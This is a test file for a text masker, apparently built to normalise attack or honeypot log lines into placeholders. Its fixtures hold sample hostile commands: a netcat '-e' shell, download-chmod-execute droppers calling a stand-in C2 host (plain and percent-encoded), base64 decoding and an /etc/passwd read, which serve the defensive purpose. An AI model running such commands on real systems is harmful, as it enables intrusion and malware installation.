// The token masker alone: each kind of variable token is masked, the words around it and
// the words that look a little like one (versions, camelCase, file names) are kept.

import { describe, expect, it } from 'vitest';

import { maskText } from './mask.js';

describe('maskText masks variable tokens', () => {
  it.each([
    ['IPv4 addresses, with a port', 'nc 198.51.100.7:8080 -e', 'nc <ip> -e'],
    ['the hosts of URLs, names or addresses, with a user and a port',
      'curl http://c2.example.com/b|ldap://[2001:db8::1]:1389/a ftp://u:p@198.51.100.7:21/',
      'curl http://<host>/b|ldap://<host>/a ftp://<host>/'],
    ['the file name a URL fetches, where it is fetched and where it is named again',
      'wget+http://198.51.100.5/bins/kqhzrw.sh;chmod+777+kqhzrw.sh;./kqhzrw.sh',
      'wget+http://<host>/bins/<file>.sh;chmod+<n>+<file>.sh;./<file>.sh'],
    ['IPv6 addresses, short forms too', 'to [2001:db8::1]:80 or ::1 or fe80::a:b',
      'to <ip> or <ip> or <ip>'],
    ['a full IPv6 address with an IPv4 tail', '0:0:0:0:0:ffff:192.0.2.1 x', '<ip> x'],
    ['numbers', 'id=30&n=7', 'id=<n>&n=<n>'],
    ['UUIDs', 'c/3f2b8c1e-9d4a-4b7e-8f00-1a2b3c4d5e6f/s', 'c/<uuid>/s'],
    ['hex runs of 8 or more', 'nonce="88645cefb1f9ede0"', 'nonce="<hex>"'],
    ['base64 runs that mix cases and digits', 'echo bWtkaXIgLXAgL3RtcC8k | base64 -d',
      'echo <b64> | base64 -d'],
    ['generated file names', 'cp x7Gq2.sh /tmp; sh Kp9zQ.sh', 'cp <rnd>.sh /tmp; sh <rnd>.sh'],
    ['mixed-case generated names', 'token GqZkTwPx end', 'token <rnd> end'],
    ['the applet name after busybox', '/bin/busybox ECCHI', '/bin/busybox <rnd>'],
    ['ISO 8601 times', 'at 2024-05-01T12:30:00.123Z and 2024-05-01', 'at <time> and <time>'],
    ['ISO 8601 times with a zone', 'at 2024-05-01T12:30:00+09:00.', 'at <time>.'],
    ['clock times', 'Tue, 15 Nov 1994 08:12:31 GMT', 'Tue, <n> Nov <n> <time> GMT'],
    ['times named as such', 'ts=1700000000&_=1712345678901&a={"timestamp": 17}',
      'ts=<time>&_=<time>&a={"timestamp": <time>}'],
    ['numbers that are not named times', 'sleep 1700000000', 'sleep <n>'],
    ['long runs of one character', `X-Pad: ${'A'.repeat(40)}|${'/'.repeat(20)}`,
      'X-Pad: <rep:A>|<rep:/>'],
    ['addresses behind URL escapes', 'ip%3D198.51.100.82%26x', 'ip%3D<ip>%26x'],
    ['the host and file name of a percent-encoded URL',
      'cmd=wget%20http%3A%2F%2Fc2.example.com%2Fm.sh%3Bsh%20m.sh',
      'cmd=wget%20http%3A%2F%2F<host>%2F<file>.sh%3Bsh%20<file>.sh'],
  ])('%s', (_what, input, expected) => {
    expect(maskText(input)).toBe(expected);
  });
});

describe('maskText keeps what names a tool or an attack', () => {
  it.each([
    'eth_getBlockByNumber', 'getBlockByNumber', 'XMLHttpRequest', 'personal_unlockAccount',
    'SSH-<n>.<n>-OpenSSH_', 'base64 -d', 'sha256sum', '/api/v1/pods', 'Mozi.m',
    'arm.urbotnetisass', 'redtail.x', 'ISIS.sh',
    'curl -fsSL', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/wp/v2/Users/Admin',
    '/static/js/MainBundle.js', 'busybox wget', 'deadbeef', 'ECCHI',
  ])('keeps %s', (word) => {
    expect(maskText(word)).toBe(word);
  });

  it('masks only the number parts of versions', () => {
    expect(maskText('OpenSSH_8.9p1 Ubuntu-3ubuntu0.10'))
      .toBe('OpenSSH_<n>.<n>p<n> Ubuntu-<n>ubuntu<n>.<n>');
    expect(maskText('x86_64 i686 libssh2_')).toBe('x<n>_<n> i686 libssh<n>_');
  });

  it('masks the digit runs inside keys, file and host names, keeping their letters', () => {
    expect(maskText('SET key0 x5_3 a150.sh ex0.example.com'))
      .toBe('SET key<n> x<n>_<n> a<n>.sh ex<n>.example.com');
    expect(maskText('x150_3')).toBe(maskText('x5_3'));
    expect(maskText('key12b')).toBe('key<n>b');
  });

  it('keeps a URL\'s scheme, path and extension, and names without an extension', () => {
    expect(maskText('file:///etc/passwd http://h/bins/mips http://h/a/b.tar.gz?x=1'))
      .toBe('file:///etc/passwd http://<host>/bins/mips http://<host>/a/<file>.gz?x=<n>');
    expect(maskText('wget http://h/a.sh; uname -a; sh a.sh')).toBe(
      'wget http://<host>/<file>.sh; uname -a; sh <file>.sh');
  });

  it('does not take clock times, versions or MAC-like text for IPv6', () => {
    expect(maskText('12:30:45')).toBe('<time>');
    expect(maskText('1.2.3.4.5')).toBe('<n>.<n>.<n>.<n>.<n>');
    expect(maskText('Accept: a:b')).toBe('Accept: a:b');
  });

  it('escapes control and non-ASCII characters, and reads CR LF as a line end', () => {
    expect(maskText('a\r\nb\x00c\xffd\te')).toBe('a\nb\\x00c\\xffd\\x09e');
    expect(maskText('\u3042')).toBe('\\u3042');
  });
});
